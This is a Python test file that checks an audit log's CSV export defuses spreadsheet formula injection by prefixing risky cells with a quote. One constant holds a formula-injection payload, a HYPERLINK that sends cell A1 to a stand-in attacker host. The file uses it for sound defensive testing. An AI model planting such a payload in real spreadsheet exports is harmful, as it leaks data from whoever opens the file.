"""The audit's CSV export: a text a spreadsheet would run as a formula is exported as text."""

from __future__ import annotations

import csv
import io

import pytest

from interlock.audit.query import spreadsheet_safe
from support.api_fixtures import api_settings, server
from support.live import LiveServer
from support.sse import collect, terminals

__all__ = ["api_settings", "server"]

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


async def test_a_reason_written_as_a_formula_is_exported_as_text(server: LiveServer) -> None:
    conversation_id = await server.new_conversation()
    await server.say(conversation_id, "add a note formula")
    log = await collect(server.client, conversation_id, until=terminals(1))
    call_id = log.of("tool_call.interrupted")[0]["tool_call"]["id"]
    response = await server.decide(call_id, type="reject", message=FORMULA)
    assert response.status_code == 200, response.text

    exported = await server.client.get("/api/audit/export")

    assert exported.status_code == 200, exported.text
    [row] = list(csv.DictReader(io.StringIO(exported.text)))
    assert (row["outcome"], row["reason"]) == ("rejected", "'" + FORMULA)
    listed = (await server.client.get("/api/audit")).json()["records"]
    assert [r["reason"] for r in listed] == [FORMULA]  # the record itself is unchanged


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_every_formula_start_gets_a_quote(text: str) -> None:
    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize("value", ["buy milk", "", "'quoted", 5, None, '{"a": "=1"}'])
def test_other_cells_are_unchanged(value: object) -> None:
    assert spreadsheet_safe(value) == value
